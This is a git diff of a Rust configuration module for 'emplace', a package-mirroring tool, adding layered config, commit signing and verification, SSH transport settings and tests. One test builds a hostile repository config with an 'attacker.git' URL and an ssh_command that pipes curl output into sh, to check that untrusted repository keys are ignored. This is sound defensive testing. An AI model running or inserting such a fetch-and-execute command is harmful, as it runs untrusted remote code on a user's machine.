@@ -1,23 +1,164 @@
-use crate::git;
-use anyhow::Result;
+use crate::{
+    configure,
+    filter::PackageFilter,
+    git::{self, GitError, GitErrorKind},
+    repo::Repo,
+    storage,
+};
+use anyhow::{Context, Result};
 use camino::Utf8PathBuf;
-use log::info;
+use log::{info, warn};
 use serde::{Deserialize, Serialize};
 use std::{
-    fs::{self, File},
-    io::Read,
+    collections::BTreeMap,
+    env, fs,
     path::{Path, PathBuf},
     string::String,
 };
 
+/// How the mirrors are stored.
+#[derive(Debug, Default, Copy, Clone, Eq, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum StorageKind {
+    /// A git repository that's cloned into the repo directory.
+    #[default]
+    Git,
+    /// The repo directory itself, synchronized by another tool.
+    Directory,
+    /// A read-only path or `file://` URL in the `url` field.
+    File,
+}
+
+/// The kind of key used to sign commits.
+#[derive(Debug, Default, Copy, Clone, Eq, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SigningFormat {
+    #[default]
+    Gpg,
+    Ssh,
+}
+
+impl SigningFormat {
+    /// The value of git's `gpg.format` setting.
+    pub fn git_format(self) -> &'static str {
+        match self {
+            SigningFormat::Gpg => "openpgp",
+            SigningFormat::Ssh => "ssh",
+        }
+    }
+}
+
+/// Configuration for signing mirror commits and verifying pulled commits.
+#[derive(Debug, Default, Clone, Serialize, Deserialize)]
+pub struct SigningConfig {
+    /// Sign the commits made by emplace.
+    #[serde(default)]
+    pub sign: bool,
+    /// Whether the key is a GPG or SSH key.
+    #[serde(default)]
+    pub format: SigningFormat,
+    /// The key to sign with, git's `user.signingkey` is used when not set.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub key: Option<String>,
+    /// Refuse to use pulled commits that aren't signed by one of the allowed keys.
+    #[serde(default)]
+    pub verify: bool,
+    /// Fingerprints or IDs of the keys that are allowed to sign commits.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allowed_keys: Vec<String>,
+    /// File in the `ssh-keygen` allowed signers format, required to verify SSH signatures.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub allowed_signers_file: Option<String>,
+}
+
+/// Configuration for catching commands entered in a terminal.
+#[derive(Debug, Default, Clone, Serialize, Deserialize)]
+pub struct CatchConfig {
+    /// Pull, commit and push in a background process so the prompt returns right away.
+    #[serde(default)]
+    pub background: bool,
+}
+
+/// Name and email address that commits are made with.
+#[derive(Debug, Clone, Eq, PartialEq, Serialize, Deserialize)]
+pub struct Identity {
+    pub name: String,
+    pub email: String,
+}
+
+/// How git is run and connects to the remote.
+#[derive(Debug, Default, Clone, Eq, PartialEq, Serialize, Deserialize)]
+pub struct TransportConfig {
+    /// Private SSH key used instead of the keys from the SSH agent and SSH config.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub ssh_key: Option<String>,
+    /// Command used to connect with SSH, like `GIT_SSH_COMMAND`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub ssh_command: Option<String>,
+    /// The git binary to run.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub git: Option<String>,
+    /// Extra options passed with `git -c`, like `http.proxy=http://proxy:8080`.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub config: Vec<String>,
+    /// Environment variables set when running git.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, String>,
+}
+
+impl TransportConfig {
+    /// The value of `GIT_SSH_COMMAND`, nothing when SSH isn't configured.
+    pub fn git_ssh_command(&self) -> Option<String> {
+        let command = self.ssh_command.as_deref().unwrap_or("ssh");
+
+        match &self.ssh_key {
+            Some(key) => {
+                // Expand the home directory, the command isn't run by a shell that does it
+                let key = match (key.strip_prefix("~/"), dirs::home_dir()) {
+                    (Some(key), Some(home)) => home.join(key).to_string_lossy().to_string(),
+                    _ => key.clone(),
+                };
+
+                Some(format!(
+                    "{} -i '{}' -o IdentitiesOnly=yes",
+                    command,
+                    key.replace('\'', "'\\''")
+                ))
+            }
+            None => self.ssh_command.clone(),
+        }
+    }
+}
+
 /// Repository specific configuration.
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct RepoConfig {
+    #[serde(default)]
     pub url: String,
     #[serde(default = "RepoConfig::default_branch")]
     pub branch: String,
     #[serde(default = "RepoConfig::default_file")]
     pub file: String,
+    #[serde(default)]
+    pub backend: StorageKind,
+    /// Template for the commit messages, with the `{action}`, `{packages}`, `{managers}` and
+    /// `{host}` placeholders.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub commit_message: Option<String>,
+    /// Author & committer of the commits, git's `user.name` and `user.email` are used when not set.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub author: Option<Identity>,
+    /// Push commits right away, otherwise they are pushed with `emplace sync`.
+    #[serde(default = "RepoConfig::default_push")]
+    pub push: bool,
+    /// Only clone and keep this many of the latest commits, the whole history is kept when not set.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub depth: Option<u32>,
+    /// Only check out the files emplace uses when cloning.
+    #[serde(default)]
+    pub sparse: bool,
+    #[serde(default)]
+    pub transport: TransportConfig,
 }
 
 impl RepoConfig {
@@ -26,9 +167,20 @@ impl RepoConfig {
             url,
             branch: RepoConfig::default_branch(),
             file: RepoConfig::default_file(),
+            backend: StorageKind::default(),
+            commit_message: None,
+            author: None,
+            push: RepoConfig::default_push(),
+            depth: None,
+            sparse: false,
+            transport: TransportConfig::default(),
         }
     }
 
+    fn default_push() -> bool {
+        true
+    }
+
     fn default_branch() -> String {
         "master".to_owned()
     }
@@ -36,9 +188,11 @@ impl RepoConfig {
     fn default_file() -> String {
         ".emplace".to_owned()
     }
+}
 
-    pub fn path(&self) -> PathBuf {
-        PathBuf::from(self.file.clone())
+impl Default for RepoConfig {
+    fn default() -> Self {
+        RepoConfig::new(String::new())
     }
 }
 
@@ -47,7 +201,19 @@ impl RepoConfig {
 pub struct Config {
     #[serde(default = "Config::default_mirror_dir_string")]
     pub repo_directory: String,
+    /// Can be left out when another layer configures the repository.
+    #[serde(default)]
     pub repo: RepoConfig,
+    #[serde(default)]
+    pub signing: SigningConfig,
+    #[serde(default)]
+    pub catch: CatchConfig,
+    /// Packages and package managers that are never mirrored.
+    #[serde(default, skip_serializing_if = "PackageFilter::is_empty")]
+    pub ignore: PackageFilter,
+    /// Packages that are mirrored without asking.
+    #[serde(default, skip_serializing_if = "PackageFilter::is_empty")]
+    pub accept: PackageFilter,
 }
 
 impl Config {
@@ -58,12 +224,17 @@ impl Config {
     {
         info!("No configuration file found.");
         let repo_url = dialoguer::Input::<String>::new()
-            .with_prompt("The URL of the git repository you (want to) store the mirrors in")
+            .with_prompt("The URL of the git repository you (want to) store the mirrors in, leave empty to only keep them on this machine")
+            .allow_empty(true)
             .interact()?;
 
         let config = Config {
             repo_directory: Config::default_mirror_dir_string(),
             repo: RepoConfig::new(repo_url),
+            signing: SigningConfig::default(),
+            catch: CatchConfig::default(),
+            ignore: PackageFilter::default(),
+            accept: PackageFilter::default(),
         };
 
         // Save the config
@@ -73,7 +244,10 @@ impl Config {
     }
 
     /// Ask the user if they want to change the repo path, clone it or create locally, or abort.
-    pub fn clone_repo_ask(&mut self) -> Result<bool> {
+    pub fn clone_repo_ask<P>(&mut self, path: P) -> Result<bool>
+    where
+        P: AsRef<Path>,
+    {
         let term = console::Term::stdout();
         let theme: Box<dyn dialoguer::theme::Theme> = if term.features().colors_supported() {
             Box::<dialoguer::theme::ColorfulTheme>::default()
@@ -97,67 +271,167 @@ impl Config {
             let repo_path = dialoguer::Input::<String>::with_theme(&*theme)
                 .with_prompt("Where do you want your repository to be located")
                 .interact()?;
+            configure::set(&path, "repo_directory", &repo_path)?;
             self.repo_directory = repo_path;
-            self.save_to_default_path()?;
         }
         if chosen.contains(&1) {
             // Prompt is to stop it from blending with previous terminal output
             let prompt = "What do you want to do?";
-            let choices_in = &["Clone the repo", "Create it locally"];
+            let choices_in = &[
+                "Clone the repo",
+                "Create it locally",
+                "Create it locally without a remote",
+            ];
             let chosen_in = dialoguer::Select::with_theme(&*theme)
                 .with_prompt(prompt)
                 .items(choices_in)
                 .clear(true)
                 .interact_on(&term)?;
             if chosen_in == 0 {
-                return git::clone_full(&self.repo_directory, &self.repo.url);
+                let sparse = self
+                    .repo
+                    .sparse
+                    .then(|| storage::sparse_patterns(&self.repo.file));
+                git::clone_full(
+                    &self.repo_directory,
+                    &self.repo.transport,
+                    &self.repo.url,
+                    &self.repo.branch,
+                    self.repo.depth,
+                    sparse.as_deref(),
+                )?;
             } else {
                 fs::DirBuilder::new()
                     .recursive(true)
                     .create(&self.repo_directory)?;
-                git::init_repo(&self.repo_directory)?;
-                return git::set_remote(&self.repo_directory, &self.repo.url);
+                git::init_repo(
+                    &self.repo_directory,
+                    &self.repo.transport,
+                    &self.repo.branch,
+                )?;
+
+                if chosen_in == 1 && !self.repo.url.is_empty() {
+                    git::set_remote(&self.repo_directory, &self.repo.transport, &self.repo.url)?;
+                } else {
+                    // It can be added later with `emplace config set-remote`
+                    configure::set(&path, "repo.url", "")?;
+                    self.repo.url.clear();
+                }
             }
         }
         Ok(true)
     }
 
-    /// Try to open the default.
-    pub fn from_default_file() -> Result<Option<Self>> {
-        Config::from_path(&Config::default_path())
+    /// Use a remote for the repository, combining the local history with the history of the remote.
+    pub fn set_remote<P>(&mut self, path: P, url: &str) -> Result<()>
+    where
+        P: AsRef<Path>,
+    {
+        // Only change the user config, the other layers shouldn't end up in it
+        configure::set(path, "repo.url", url)?;
+        self.repo.url = url.to_string();
+
+        // Repositories that don't exist yet are cloned from the remote when they are used
+        let dir = &self.repo_directory;
+        let transport = &self.repo.transport;
+        if self.repo.backend != StorageKind::Git || !Path::new(dir).join(".git").exists() {
+            return Ok(());
+        }
+
+        if git::remote_url(dir, transport).is_ok() {
+            git::set_remote_url(dir, transport, url)?;
+        } else {
+            git::set_remote(dir, transport, url)?;
+        }
+
+        let branch = &self.repo.branch;
+        let storage = storage::Git::new(dir.into(), self.repo.clone(), self.signing.clone());
+        match git::fetch(dir, transport, branch) {
+            // The remote already contains a history that must be combined with the local one
+            Ok(()) if git::has_commits(dir, transport) => {
+                storage.verify_remote().context("verifying remote repo")?;
+
+                let repo = Repo::new(self.clone(), false)?;
+                let local = repo.read()?;
+
+                println!("Combining the local mirrors with the mirrors of the remote.");
+                git::merge_unrelated(dir, transport, branch)?;
+
+                // Conflicting lines are taken from the remote, add the local packages again
+                let missing = local.difference(&repo.read()?);
+                if missing.is_empty() {
+                    println!("Pushing to remote.");
+                    git::push(dir, transport, branch)?;
+                } else {
+                    repo.mirror(missing)?;
+                }
+            }
+            Ok(()) => {
+                storage.verify_remote().context("verifying remote repo")?;
+
+                git::reset_to_remote(dir, transport, branch)?;
+            }
+            Err(err) if GitError::kind_of(&err) == Some(GitErrorKind::MissingBranch) => {
+                if git::has_commits(dir, transport) {
+                    println!("Pushing to remote.");
+                    git::push(dir, transport, branch)?;
+                }
+            }
+            Err(err) => return Err(err),
+        }
+
+        println!("The mirrors are synchronized with \"{}\".", url);
+
+        Ok(())
     }
 
-    /// Load the config from a file or create a new one.
+    /// Load the config or create a new one when it doesn't exist.
     pub fn from_path_or_new<P: AsRef<Path>>(file_path: P) -> Result<Self> {
-        match Config::from_default_file()? {
+        match Config::from_path(&file_path)? {
             Some(config) => Ok(config),
             None => Config::new(file_path),
         }
     }
 
-    /// Load the config from a file.
+    /// Load the config with the file as the user layer.
+    ///
+    /// From the lowest to the highest precedence the layers are the system config, the
+    /// `emplace.toml` in the repository, the user config and the `EMPLACE_*` environment
+    /// variables. The repository can only set the keys in [`REPO_KEYS`] that the system config
+    /// doesn't set. Nothing is loaded when neither the system config nor the user config exists.
     pub fn from_path<P: AsRef<Path>>(file_path: &P) -> Result<Option<Self>> {
-        if !file_path.as_ref().exists() {
+        let system = match Config::system_path() {
+            Some(system_path) => read_table(system_path)?,
+            None => None,
+        };
+        let user = read_table(file_path)?;
+        if system.is_none() && user.is_none() {
             return Ok(None);
         }
+        let system = system.unwrap_or_default();
+        let user = user.unwrap_or_default();
 
-        // Open the file
-        let mut file = File::open(file_path)?;
-
-        // Read the contents
-        let mut contents = String::new();
-        file.read_to_string(&mut contents)?;
-
-        Ok(Some(toml::from_str(&contents)?))
-    }
-
-    /// Persist the config on disk.
-    pub fn save_to_default_path(&self) -> Result<()> {
-        let result = self.save(Config::default_path());
+        // The repository is found with the other layers, it can't move itself
+        let mut outer = system.clone();
+        merge_tables(&mut outer, user.clone());
+        merge_tables(&mut outer, env_table(env::vars())?);
+        let repo_directory = match outer.get("repo_directory") {
+            Some(toml::Value::String(repo_directory)) => repo_directory.clone(),
+            _ => Config::default_mirror_dir_string(),
+        };
+        let repo = repo_layer(read_repo_table(Config::repo_path(&repo_directory)), &system);
 
-        info!("You can edit the git repository URL and other settings here later.");
+        let mut table = system;
+        merge_tables(&mut table, repo);
+        merge_tables(&mut table, user);
+        let config = apply_env(table, env::vars()).with_context(|| {
+            format!(
+                "parsing config \"{}\" combined with the system config, the config in the repository and the `EMPLACE_*` environment variables",
+                file_path.as_ref().display()
+            )
+        })?;
 
-        result
+        Ok(Some(config))
     }
 
     /// Persist the config to a certain file.
@@ -180,12 +454,22 @@ impl Config {
         Ok(())
     }
 
-    /// The path of the .emplace file.
-    pub fn full_file_path(&self) -> PathBuf {
-        let mut base = PathBuf::from(&self.repo_directory);
-        base.push(self.repo.path());
+    /// Get the path of the config shared by all users of this machine.
+    #[cfg(not(target_os = "windows"))]
+    pub fn system_path() -> Option<PathBuf> {
+        Some(PathBuf::from("/etc/emplace.toml"))
+    }
+
+    /// Get the path of the config shared by all users of this machine.
+    #[cfg(target_os = "windows")]
+    pub fn system_path() -> Option<PathBuf> {
+        env::var_os("ProgramData")
+            .map(|dir| PathBuf::from(dir).join("emplace").join("emplace.toml"))
+    }
 
-        base
+    /// Get the path of the config in the repository, shared by all machines.
+    pub fn repo_path(repo_directory: &str) -> PathBuf {
+        Path::new(repo_directory).join("emplace.toml")
     }
 
     /// Get the default path where the 'emplace.toml' file lives.
@@ -211,3 +495,408 @@ impl Config {
         Config::default_mirror_dir().to_string()
     }
 }
+
+/// Read a TOML file as a table, nothing when it doesn't exist.
+fn read_table<P: AsRef<Path>>(path: P) -> Result<Option<toml::Table>> {
+    let path = path.as_ref();
+    if !path.exists() {
+        return Ok(None);
+    }
+
+    let contents = fs::read_to_string(path)
+        .with_context(|| format!("reading config \"{}\"", path.display()))?;
+    let table = toml::from_str(&contents).with_context(|| {
+        format!(
+            "parsing config \"{}\", run `emplace config validate` to check it",
+            path.display()
+        )
+    })?;
+
+    Ok(Some(table))
+}
+
+/// The keys that the config in the repository can set, anyone who can push to the repository
+/// shouldn't be able to change where the mirrors come from or which commits are trusted.
+const REPO_KEYS: &[&str] = &[
+    "catch.background",
+    "ignore.managers",
+    "ignore.packages",
+    "ignore.tags",
+    "repo.commit_message",
+    "repo.file",
+];
+
+/// Only keep the keys of the repository config that it may set and the system config doesn't.
+fn repo_layer(repo: toml::Table, system: &toml::Table) -> toml::Table {
+    let mut layer = toml::Table::new();
+    for key in table_keys(&repo) {
+        if !REPO_KEYS.contains(&key.join(".").as_str()) {
+            warn!(
+                "Ignoring \"{}\" in the config in the repository, it can only be set on this machine",
+                key.join(".")
+            );
+        } else if get_key(system, &key).is_none() {
+            if let Some(value) = get_key(&repo, &key) {
+                set_key(&mut layer, &key, value.clone())
+                    .expect("Keys in a table are always made of tables");
+            }
+        }
+    }
+
+    layer
+}
+
+/// The keys of all values in the table that aren't tables themselves.
+fn table_keys(table: &toml::Table) -> Vec<Vec<String>> {
+    table
+        .iter()
+        .flat_map(|(name, value)| match value {
+            toml::Value::Table(table) => table_keys(table)
+                .into_iter()
+                .map(|mut key| {
+                    key.insert(0, name.clone());
+
+                    key
+                })
+                .collect(),
+            _ => vec![vec![name.clone()]],
+        })
+        .collect()
+}
+
+/// Get the value of a key in the table.
+fn get_key<'a>(table: &'a toml::Table, key: &[String]) -> Option<&'a toml::Value> {
+    let (first, rest) = key.split_first()?;
+    let value = table.get(first)?;
+    if rest.is_empty() {
+        Some(value)
+    } else {
+        get_key(value.as_table()?, rest)
+    }
+}
+
+/// Read the config in the repository, a file that isn't a config is skipped with a warning so
+/// anything pushed to the repository can't stop emplace from working.
+fn read_repo_table<P: AsRef<Path>>(path: P) -> toml::Table {
+    match read_table(&path) {
+        Ok(table) => table.unwrap_or_default(),
+        Err(err) => {
+            warn!("Ignoring the config in the repository: {:#}", err);
+
+            toml::Table::new()
+        }
+    }
+}
+
+/// Merge the keys of another layer into the table, replacing everything but tables.
+fn merge_tables(table: &mut toml::Table, other: toml::Table) {
+    for (key, value) in other {
+        match (table.get_mut(&key), value) {
+            (Some(toml::Value::Table(table)), toml::Value::Table(other)) => {
+                merge_tables(table, other)
+            }
+            (_, value) => {
+                table.insert(key, value);
+            }
+        }
+    }
+}
+
+/// The tables where the names of the keys aren't fields of the config, like the names of
+/// environment variables.
+const MAP_KEYS: &[&str] = &["repo.transport.env"];
+
+/// The keys set with `EMPLACE_*` environment variables, with the sections separated by double
+/// underscores like `EMPLACE_REPO__BRANCH`.
+///
+/// The sections and fields are lowercased, keys of the tables in [`MAP_KEYS`] are kept as they
+/// are so `EMPLACE_REPO__TRANSPORT__ENV__GIT_TRACE` sets `GIT_TRACE`.
+fn env_keys<I>(vars: I) -> Vec<(Vec<String>, String)>
+where
+    I: IntoIterator<Item = (String, String)>,
+{
+    vars.into_iter()
+        // The path of the config itself isn't a setting
+        .filter(|(name, _)| name != "EMPLACE_CONFIG")
+        .filter_map(|(name, value)| {
+            let mut key = Vec::new();
+            let mut parts = name.strip_prefix("EMPLACE_")?.split("__");
+            while let Some(part) = parts.next() {
+                key.push(part.to_lowercase());
+
+                if MAP_KEYS.contains(&key.join(".").as_str()) {
+                    let map_key = parts.collect::<Vec<_>>().join("__");
+                    if !map_key.is_empty() {
+                        key.push(map_key);
+                    }
+                    break;
+                }
+            }
+
+            Some((key, value))
+        })
+        .collect()
+}
+
+/// The layer of the environment variables, used to find the repository.
+fn env_table<I>(vars: I) -> Result<toml::Table>
+where
+    I: IntoIterator<Item = (String, String)>,
+{
+    let mut table = toml::Table::new();
+    for (key, value) in env_keys(vars) {
+        set_key(&mut table, &key, env_value(&value))?;
+    }
+
+    Ok(table)
+}
+
+/// Override the keys of the table with the environment variables and parse the config.
+fn apply_env<I>(mut table: toml::Table, vars: I) -> Result<Config>
+where
+    I: IntoIterator<Item = (String, String)>,
+{
+    for (key, value) in env_keys(vars) {
+        set_key(&mut table, &key, env_value(&value))?;
+
+        // Values like a branch named `1` are strings
+        let parses = |table: &toml::Table| toml::Value::Table(table.clone()).try_into::<Config>();
+        if parses(&table).is_err() {
+            let mut as_string = table.clone();
+            set_key(&mut as_string, &key, toml::Value::String(value))?;
+            if parses(&as_string).is_ok() {
+                table = as_string;
+            }
+        }
+    }
+
+    Ok(toml::Value::Table(table).try_into()?)
+}
+
+/// Parse the value of an environment variable, values that aren't valid TOML are strings.
+fn env_value(value: &str) -> toml::Value {
+    toml::from_str::<toml::Table>(&format!("value = {}", value))
+        .ok()
+        .and_then(|mut table| table.remove("value"))
+        .unwrap_or_else(|| toml::Value::String(value.to_string()))
+}
+
+/// Set the value of a key in the table, creating the tables it's in.
+fn set_key(table: &mut toml::Table, key: &[String], value: toml::Value) -> Result<()> {
+    let (last, parents) = key.split_last().context("key is empty")?;
+
+    let mut table = table;
+    for parent in parents {
+        table = table
+            .entry(parent.as_str())
+            .or_insert_with(|| toml::Value::Table(toml::Table::new()))
+            .as_table_mut()
+            .with_context(|| {
+                format!("\"{}\" in key \"{}\" is not a table", parent, key.join("."))
+            })?;
+    }
+    table.insert(last.clone(), value);
+
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_transport() {
+        let config: Config = toml::from_str(
+            r#"
+            [repo]
+            url = "git@github.com:user/mirrors.git"
+
+            [repo.transport]
+            ssh_key = "/keys/deploy key"
+            config = ["http.proxy=http://proxy:8080"]
+            env = { GIT_TRACE = "1" }
+            "#,
+        )
+        .unwrap();
+
+        let transport = &config.repo.transport;
+        assert_eq!(
+            transport.git_ssh_command().unwrap(),
+            "ssh -i '/keys/deploy key' -o IdentitiesOnly=yes"
+        );
+        assert_eq!(transport.config, vec!["http.proxy=http://proxy:8080"]);
+        assert_eq!(transport.env["GIT_TRACE"], "1");
+
+        let transport = TransportConfig {
+            ssh_command: Some("ssh -p 2222".to_string()),
+            ..Default::default()
+        };
+        assert_eq!(transport.git_ssh_command().unwrap(), "ssh -p 2222");
+        assert_eq!(TransportConfig::default().git_ssh_command(), None);
+    }
+
+    #[test]
+    fn test_layers() {
+        let mut table: toml::Table = toml::from_str(
+            r#"
+            [repo]
+            url = "https://example.com/system.git"
+            branch = "main"
+
+            [catch]
+            background = true
+            "#,
+        )
+        .unwrap();
+        merge_tables(
+            &mut table,
+            toml::from_str(
+                r#"
+                [repo]
+                url = "https://example.com/user.git"
+                "#,
+            )
+            .unwrap(),
+        );
+
+        let vars = [
+            ("EMPLACE_CONFIG", "/tmp/emplace.toml"),
+            ("EMPLACE_REPO__BRANCH", "1"),
+            ("EMPLACE_REPO__PUSH", "false"),
+            ("EMPLACE_IGNORE__MANAGERS", "[\"pip\"]"),
+            ("EMPLACE_REPO__TRANSPORT__ENV__GIT_TRACE", "1"),
+            ("OTHER", "value"),
+        ]
+        .iter()
+        .map(|(name, value)| (name.to_string(), value.to_string()));
+        let config = apply_env(table, vars).unwrap();
+
+        assert_eq!(config.repo.url, "https://example.com/user.git");
+        // Values that can't be used as the type they look like are strings
+        assert_eq!(config.repo.branch, "1");
+        assert!(!config.repo.push);
+        assert!(config.catch.background);
+        assert_eq!(config.ignore.managers.len(), 1);
+        assert_eq!(config.repo.transport.env["GIT_TRACE"], "1");
+    }
+
+    #[test]
+    fn test_repo_layer() {
+        let repo: toml::Table = toml::from_str(
+            r#"
+            repo_directory = "/tmp/elsewhere"
+            accept = { managers = ["apt"] }
+
+            [repo]
+            url = "https://example.com/attacker.git"
+            commit_message = "Mirror {packages}"
+            file = ".mirrors"
+            transport = { ssh_command = "sh -c 'curl example.com | sh'" }
+
+            [signing]
+            verify = false
+
+            [catch]
+            background = true
+
+            [ignore]
+            packages = ["linux-headers-*"]
+            "#,
+        )
+        .unwrap();
+        let system: toml::Table = toml::from_str(
+            r#"
+            [repo]
+            file = ".emplace"
+
+            [ignore]
+            packages = ["fzf"]
+            "#,
+        )
+        .unwrap();
+
+        let layer = repo_layer(repo, &system);
+        assert_eq!(
+            table_keys(&layer),
+            vec![
+                vec!["catch".to_string(), "background".to_string()],
+                vec!["repo".to_string(), "commit_message".to_string()],
+            ]
+        );
+
+        // The system config decides over the repository
+        let mut table = system;
+        merge_tables(&mut table, layer);
+        let config = apply_env(table, vec![]).unwrap();
+        assert_eq!(config.repo.file, ".emplace");
+        assert_eq!(config.ignore.packages[0].to_string(), "fzf");
+        assert!(config.catch.background);
+        assert!(config.repo.url.is_empty());
+        assert!(config.accept.is_empty());
+    }
+
+    #[test]
+    fn test_repo_table() {
+        let path = std::env::temp_dir().join(format!("emplace-repo-{}.toml", std::process::id()));
+        assert!(read_repo_table(&path).is_empty());
+
+        // Mirrors written by older versions aren't a config
+        fs::write(&path, "[(source: Apt, name: \"fzf\")]").unwrap();
+        assert!(read_repo_table(&path).is_empty());
+
+        fs::write(&path, "[catch]\nbackground = true").unwrap();
+        assert!(read_repo_table(&path).contains_key("catch"));
+
+        fs::remove_file(&path).unwrap();
+    }
+
+    #[test]
+    fn test_set_remote_verify() {
+        let dir = std::env::temp_dir().join(format!("emplace-remote-{}", std::process::id()));
+        let remote = dir.join("remote.git");
+        let local = dir.join("local");
+        fs::create_dir_all(&remote).unwrap();
+        fs::create_dir_all(&local).unwrap();
+
+        let git = |dir: &Path, args: &[&str]| {
+            let output = std::process::Command::new("git")
+                .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
+                .args(["-c", "commit.gpgsign=false"])
+                .args(args)
+                .current_dir(dir)
+                .output()
+                .unwrap();
+            assert!(output.status.success(), "git {:?} failed", args);
+
+            String::from_utf8(output.stdout).unwrap()
+        };
+        git(&remote, &["init", "--quiet", "--initial-branch", "master"]);
+        git(
+            &remote,
+            &["commit", "--quiet", "--allow-empty", "-m", "unsigned"],
+        );
+        git(&local, &["init", "--quiet", "--initial-branch", "master"]);
+
+        let mut config: Config = toml::from_str(&format!(
+            "repo_directory = {:?}\n[signing]\nverify = true",
+            local.to_str().unwrap()
+        ))
+        .unwrap();
+        let url = remote.to_str().unwrap();
+        let config_path = dir.join("emplace.toml");
+
+        // The unsigned remote history isn't checked out
+        assert!(config.set_remote(&config_path, url).is_err());
+        assert!(!git::has_commits(&local, &config.repo.transport));
+
+        // Or combined with the local history
+        git(
+            &local,
+            &["commit", "--quiet", "--allow-empty", "-m", "local"],
+        );
+        assert!(config.set_remote(&config_path, url).is_err());
+        assert_eq!(git(&local, &["log", "--format=%s"]), "local\n");
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+}